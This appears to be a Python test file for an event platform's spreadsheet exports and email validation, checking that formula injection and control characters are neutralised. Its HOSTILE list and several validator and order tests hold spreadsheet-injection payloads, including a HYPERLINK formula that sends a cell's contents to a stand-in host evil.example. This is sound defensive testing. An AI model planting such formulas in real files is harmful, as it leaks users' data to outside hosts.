"""Every CSV and XLSX the platform writes: no live formula, no control character breaks it."""

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from events.db.engine import Database
from events.schemas import is_email
from events.spreadsheets import Sheet, csv_bytes, xlsx_bytes
from tests.conftest import Client
from tests.registration.conftest import RaceFactory
from tests.registration.test_lists import _import
from tests.ticketing.conftest import Catalog

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-3+4",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def test_csv_cells_that_would_run_are_text() -> None:
    data = csv_bytes(["name", "amount"], [[h, -5] for h in HOSTILE])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert [r[1] for r in rows[1:]] == ["-5"] * len(HOSTILE)  # numbers stay numbers


def test_xlsx_has_no_formula_and_survives_control_characters() -> None:
    data = xlsx_bytes(
        Sheet("S", ["name", "n"], [*([h, -5] for h in HOSTILE), ["bad\u0001horse\u0000", 1]])
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    names = [c.value for c in next(sheet.iter_cols(min_row=2, max_col=1))]
    assert names[:-2] == ["'" + h for h in HOSTILE[:-1]]
    assert names[-2].startswith("'")  # "\r=1" (the reader gives the CR back as LF)
    assert names[-1] == "bad\ufffdhorse\ufffd"
    assert next(c.value for c in next(sheet.iter_cols(min_row=2, min_col=2))) == -5


@pytest.mark.parametrize(
    ("address", "real"),
    [
        ("buyer@example.com", True),
        ("a.b+tag@mail.qq.com", True),
        ("x_y@sub.example.cn", True),
        ('=HYPERLINK("http://x")@evil.com', False),
        ("=1+1@example.com", False),
        ("-x@example.com", False),
        ("a..b@example.com", False),
        ("a@localhost", False),
        ("a@example.c", False),
        ("a b@example.com", False),
        ("a@exa_mple.com", False),
    ],
)
def test_email_validator_accepts_real_addresses_only(address: str, real: bool) -> None:
    assert is_email(address) is real


async def test_an_order_with_a_formula_for_an_email_is_refused(
    client: Client, catalog: Catalog
) -> None:
    response = await client.post(
        f"/api/v1/festivals/{catalog.festival_id}/orders",
        json={
            "email": '=HYPERLINK("http://evil.example","x")@evil.com',
            "items": [{"ticket_type_id": catalog.day1["id"], "quantity": 1}],
        },
    )
    assert response.status_code == 422
    assert [e["field"] for e in response.json()["errors"]] == ["email"]


async def test_a_control_character_in_a_horse_name_does_not_break_the_entries_export(
    client: Client,
    db: Database,
    festival: dict[str, Any],
    organiser: dict[str, str],
    make_race: RaceFactory,
) -> None:
    await _import(client, festival, organiser, make_race)
    async with db.transaction() as session:
        await session.exec(text("UPDATE horse SET name_zh = 'bad' || chr(1) || 'horse'"))
    base = f"/api/v1/festivals/{festival['id']}/entries/export"
    response = await client.get(base + ".xlsx", headers=organiser)
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    values = {c.value for row in sheet.iter_rows(min_row=2) for c in row}
    assert "bad\ufffdhorse" in values
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
